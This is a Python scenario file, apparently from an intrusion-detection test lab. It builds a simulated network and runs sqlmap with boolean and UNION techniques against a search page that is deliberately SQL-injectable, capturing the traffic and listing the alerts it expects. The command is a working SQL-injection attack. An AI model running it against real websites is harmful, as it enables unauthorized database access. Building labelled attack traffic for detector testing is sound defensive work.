"""sqlmap against the open-data search page (really injectable: the query
is pasted into sqlite SQL), boolean and UNION techniques."""
import os

import benign

NAME = 'sqlmap'
KIND = 'web-attack'
TOOLS = ['sqlmap', 'lighttpd', 'dnsmasq', 'mosquitto', 'tcpdump']
FAST = True
EXPECT = [300002, 300013, 300040]
DETECTORS = ['risk']
ATTACKER = '198.51.100.77'


def run(lab, ctx):
    benign.city(lab, ctx)
    lab.host('attacker', [ATTACKER + '/24'])
    out = os.path.join(ctx.dir, 'sqlmap-out')
    cmd = ['sqlmap', '-u', 'http://%s/cgi-bin/search.py?district=centro' % benign.WEB, '--batch',
           '--technique=BU', '--dbms=SQLite', '--level', '1', '--risk', '1', '--timeout', '5',
           '--retries', '0', '--threads', '2', '--disable-coloring', '--flush-session',
           '--tables', '--output-dir', out]
    lab.capture(ctx.pcap)
    benign.start(lab, ctx, rounds=8)
    lab.run('attacker', cmd, timeout=90, log=ctx.log('sqlmap'),
            env=dict(os.environ, HOME=ctx.dir))
    return {'tool': 'sqlmap', 'command': ' '.join(cmd).replace(out, 'OUT'),
            'attacker': [ATTACKER], 'victim': [benign.WEB], 'benign': benign.ADDRS,
            'first': 'ip.src==%s && http.request' % ATTACKER}
